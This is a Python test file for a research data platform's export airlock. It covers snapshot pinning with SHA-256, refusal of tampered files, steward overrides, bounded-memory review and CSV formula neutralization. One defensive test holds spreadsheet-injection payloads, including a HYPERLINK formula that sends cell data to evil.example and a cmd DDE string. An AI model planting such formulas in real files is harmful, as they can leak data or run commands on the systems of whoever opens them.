"""The exports airlock pins what was reviewed: an export snapshots its content when it is
requested (content-addressed copy + SHA-256), the steward reviews that snapshot in bounded
memory, and the download serves exactly those bytes or fails. Workspace files are found in
the workspace's home (``homes/<workspace id>``)."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from datalibrary.audit.models import AuditEvent
from datalibrary.auth import service as auth_service
from datalibrary.lineage.models import ExportRequest
from datalibrary.workspaces.models import Workspace
from tests.helpers import Platform
from tests.lake_helpers import add_policy, ingest, write_csv

BASE = {"purpose": "share aggregate with partner", "destination": "partner sftp"}


@pytest.fixture
def lake(platform: Platform, tmp_path: Path) -> Platform:
    add_policy(platform)
    write_csv(
        tmp_path / "dm.csv",
        {
            "USUBJID": [f"S{i}" for i in range(60)],
            "SITEID": [str(700 + i % 3) for i in range(60)],
            "SEX": ["M" if i % 2 else "F" for i in range(60)],
            "AGE": [30 + i % 4 for i in range(60)],
        },
    )
    assert ingest(platform, tmp_path / "dm.csv", "study.dm")[1] == "succeeded"
    platform.add_user("stew", "steward")
    platform.add_user("ada", "scientist")
    granted = platform.as_user("stew").post(
        "/api/v1/grants", json={"principal": "user:ada", "table": "study.dm"}
    )
    assert granted.status_code == 201, granted.text
    return platform


def workspace_home(platform: Platform, user: str) -> tuple[int, Path]:
    """A workspace row owned by ``user`` and its home directory (``homes/<workspace id>``)."""
    with platform.db.session() as session:
        owner = auth_service.get_user(session, user)
        workspace = Workspace(
            owner_id=owner.id,
            product="jupyter",
            instance_type="small",
            environment="python",
            provisioner="process",
            state="stopped",
        )
        session.add(workspace)
        session.flush()
        workspace_id = workspace.id
    home = platform.settings.home / "workspaces" / "homes" / str(workspace_id)
    home.mkdir(parents=True, exist_ok=True)
    return workspace_id, home


def test_notebook_output_in_the_workspace_home_can_be_exported(lake: Platform) -> None:
    lake.as_user("ada")
    workspace_id, home = workspace_home(lake, "ada")
    (home / "out").mkdir()
    (home / "out" / "table.csv").write_text("SITEID,n\n701,16\n702,53\n")
    ada = lake.as_user("ada")
    made = ada.post("/api/v1/exports", json=BASE | {"path": "out/table.csv"})
    assert made.status_code == 201, made.text
    assert made.json()["workspace_id"] == workspace_id
    explicit = ada.post("/api/v1/exports", json=BASE | {"path": "out/table.csv", "workspace": workspace_id})
    assert explicit.status_code == 201, explicit.text
    # another user's workspace is not theirs to export from
    other_id, other_home = workspace_home(lake, "stew")
    (other_home / "x.csv").write_text("a\n1\n")
    refused = ada.post("/api/v1/exports", json=BASE | {"path": "x.csv", "workspace": other_id})
    assert refused.status_code in (403, 404)


def test_an_export_serves_the_reviewed_bytes_even_if_the_file_changes(lake: Platform) -> None:
    lake.as_user("ada")
    _, home = workspace_home(lake, "ada")
    reviewed = "SITEID,n\n701,16\n702,53\n"
    (home / "agg.csv").write_text(reviewed)
    ada, stew = lake.as_user("ada"), lake.as_user("stew")
    made = ada.post("/api/v1/exports", json=BASE | {"path": "agg.csv"}).json()
    assert made["file_sha256"] == hashlib.sha256(reviewed.encode()).hexdigest()
    # the scientist swaps the aggregate for row-level data after requesting
    rows = "\n".join(f"01-701-{i:04d},{30 + i % 50},{'MF'[i % 2]},701" for i in range(300))
    (home / "agg.csv").write_text("USUBJID,AGE,SEX,SITEID\n" + rows + "\n")
    summary = stew.get(f"/api/v1/exports/{made['id']}/summary", params={"count_column": "n"}).json()
    assert summary["rows"] == 2 and [c["name"] for c in summary["columns"]] == ["SITEID", "n"]
    assert summary["sample"]["rows"] == [["701", "16"], ["702", "53"]]
    assert summary["result_kind"] == "aggregate" and summary["risk"]["smallest_cell"] == 16
    assert summary["risk"]["passes"] is True
    decided = stew.post(
        f"/api/v1/exports/{made['id']}/decision", json={"decision": "approve", "count_column": "n"}
    )
    assert decided.status_code == 200, decided.text
    got = ada.post(f"/api/v1/exports/{made['id']}/download")
    assert got.status_code == 200 and got.content == reviewed.encode()


def test_a_tampered_snapshot_is_never_served(lake: Platform) -> None:
    lake.as_user("ada")
    _, home = workspace_home(lake, "ada")
    (home / "agg.csv").write_text("SITEID,n\n701,16\n702,53\n")
    ada, stew = lake.as_user("ada"), lake.as_user("stew")
    made = ada.post("/api/v1/exports", json=BASE | {"path": "agg.csv"}).json()
    assert (
        stew.post(
            f"/api/v1/exports/{made['id']}/decision", json={"decision": "approve", "count_column": "n"}
        ).status_code
        == 200
    )
    with lake.db.session() as session:
        stored = Path(session.get(ExportRequest, made["id"]).file_path)
    stored.write_bytes(b"USUBJID,AGE\n01-701-0001,63\n")
    got = ada.post(f"/api/v1/exports/{made['id']}/download")
    assert got.status_code == 409 and b"01-701-0001" not in got.content
    assert "changed" in got.json()["detail"]
    with lake.db.session() as session:
        actions = set(
            session.scalars(select(AuditEvent.action).where(AuditEvent.target == f"export:{made['id']}"))
        )
        assert "export.integrity-failure" in actions
        assert session.get(ExportRequest, made["id"]).state == "failed"


def test_a_query_export_is_pinned_at_request_time(lake: Platform, tmp_path: Path) -> None:
    ada, stew = lake.as_user("ada"), lake.as_user("stew")
    made = ada.post(
        "/api/v1/exports",
        json=BASE | {"sql": "SELECT SITEID, COUNT(*) AS n FROM study.dm GROUP BY SITEID ORDER BY SITEID"},
    )
    assert made.status_code == 201, made.text
    export = made.json()
    assert export["summary"]["rows"] == 3 and export["summary"]["result_kind"] == "aggregate"
    assert export["summary"]["risk"]["smallest_cell"] == 20
    # more data arrives after the request: the export keeps what was requested and reviewed
    write_csv(tmp_path / "more.csv", {"USUBJID": ["S99"], "SITEID": ["709"], "SEX": ["M"], "AGE": [40]})
    assert ingest(lake, tmp_path / "more.csv", "study.dm")[1] == "succeeded"
    assert (
        stew.post(f"/api/v1/exports/{export['id']}/decision", json={"decision": "approve"}).status_code == 200
    )
    got = ada.post(f"/api/v1/exports/{export['id']}/download")
    rows = list(csv.reader(io.StringIO(got.text)))
    assert rows[0] == ["SITEID", "n"] and len(rows) == 4 and "709" not in got.text
    assert hashlib.sha256(got.content).hexdigest() == export["file_sha256"]


def test_approving_a_failed_check_needs_an_override_reason(lake: Platform) -> None:
    ada, stew = lake.as_user("ada"), lake.as_user("stew")
    made = ada.post("/api/v1/exports", json=BASE | {"sql": "SELECT SITEID, SEX, AGE FROM study.dm"}).json()
    summary = stew.get(f"/api/v1/exports/{made['id']}/summary").json()
    assert summary["result_kind"] == "row-level" and summary["risk"]["passes"] is False
    refused = stew.post(f"/api/v1/exports/{made['id']}/decision", json={"decision": "approve"})
    assert refused.status_code == 422 and "override" in refused.json()["detail"]
    approved = stew.post(
        f"/api/v1/exports/{made['id']}/decision",
        json={"decision": "approve", "override_reason": "partner holds a DUA covering row-level data"},
    )
    assert approved.status_code == 200, approved.text
    assert approved.json()["override_reason"].startswith("partner holds")
    with lake.db.session() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "export.override")).one()
        assert event.details["reason"].startswith("partner holds") and event.details["k"] is not None


def test_service_creates_an_export_request_from_bytes(lake: Platform) -> None:
    """The function other front ends (workspace file downloads) call to route a file."""
    from datalibrary.auth.permissions import Principal
    from datalibrary.lineage.exports import request_export_of_bytes

    with lake.db.session() as session:
        ada: Principal = auth_service.principal_for(auth_service.get_user(session, "ada"))
        export = request_export_of_bytes(
            session,
            ada,
            lake.settings,
            content=b"a,b\n1,2\n",
            name="notebook/result.csv",
            purpose="Download of a workspace file from the console",
            destination="requester's computer",
        )
        assert export.state == "pending" and export.kind == "file"
        assert export.file_sha256 == hashlib.sha256(b"a,b\n1,2\n").hexdigest()
        assert Path(export.file_path).read_bytes() == b"a,b\n1,2\n"


def test_the_review_reads_a_huge_parquet_file_in_bounded_memory(lake: Platform, tmp_path: Path) -> None:
    """A small Parquet file that decodes to ~1 GB (one long value repeated, dictionary encoded)
    is summarized with a peak resident size far below its decoded size."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 100_000
    value = "X" * 10_000
    dictionary = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([value]))
    path = tmp_path / "wide.parquet"
    pq.write_table(pa.table({"NOTE": dictionary, "AGE": pa.array([i % 90 for i in range(rows)])}), path)
    assert path.stat().st_size < 2 << 20
    script = (
        "import resource, sys, json\n"
        "from pathlib import Path\n"
        "from datalibrary.lineage.export_content import summarize_file\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "s = summarize_file(Path(sys.argv[1]), 'parquet', quasi_identifiers=['AGE'])\n"
        "after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "import pyarrow as pa\n"
        "arrow = pa.default_memory_pool().max_memory() / 2**20\n"
        "print(json.dumps({'rows': s['rows'], 'peak_mb': after / 1024, 'grew_mb': (after - before) / 1024,\n"
        "  'arrow_peak_mb': arrow,\n"
        "  'k': s['risk']['k'], 'sample_len': len(s['sample']['rows'][0][0])}))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)], capture_output=True, text=True, timeout=240, check=True
    )
    import json

    measured = json.loads(done.stdout.strip().splitlines()[-1])
    print("review of a 1 GB-decoded parquet:", measured)
    assert measured["rows"] == rows and measured["k"] >= 1000
    assert measured["sample_len"] <= 200, "sample cells are cut"
    # decoded it would be ~1000 MB; the process's own imports set its peak, the review adds nothing
    assert measured["grew_mb"] < 400, measured
    assert measured["arrow_peak_mb"] < 200, measured


def test_compliance_report_csv_neutralizes_formula_cells(lake: Platform) -> None:
    lake.add_user("audrey", "auditor")
    ada = lake.as_user("ada")
    for purpose in (
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0 for the study",
        "@SUM(1+1) poster",
    ):
        made = ada.post(
            "/api/v1/exports",
            json={
                "sql": "SELECT COUNT(*) AS n FROM study.dm",
                "purpose": purpose,
                "destination": "-2+3 partner",
            },
        )
        assert made.status_code == 201, made.text
    text = (
        lake.as_user("audrey").get("/api/v1/lineage/report", params={"scope": "study", "format": "csv"}).text
    )
    rows = [row for row in csv.DictReader(io.StringIO(text)) if row["section"] == "export"]
    assert len(rows) == 3
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), row
        assert row["purpose"].startswith("'")
    assert "\"'=HYPERLINK" in text


def test_a_broken_table_file_is_reviewed_as_an_opaque_file(lake: Platform) -> None:
    lake.as_user("ada")
    _, home = workspace_home(lake, "ada")
    (home / "broken.parquet").write_bytes(b"not parquet at all")
    ada, stew = lake.as_user("ada"), lake.as_user("stew")
    made = ada.post("/api/v1/exports", json=BASE | {"path": "broken.parquet"})
    assert made.status_code == 201, made.text
    summary = stew.get(f"/api/v1/exports/{made.json()['id']}/summary").json()
    assert summary["tabular"] is False and "cannot be read as a table" in summary["note"]
    refused = stew.post(f"/api/v1/exports/{made.json()['id']}/decision", json={"decision": "approve"})
    assert refused.status_code == 422  # the risk of an opaque file is unknown: override needed
    approved = stew.post(
        f"/api/v1/exports/{made.json()['id']}/decision",
        json={"decision": "approve", "override_reason": "a model file, no rows of data in it"},
    )
    assert approved.status_code == 200, approved.text
    assert ada.post(f"/api/v1/exports/{made.json()['id']}/download").content == b"not parquet at all"
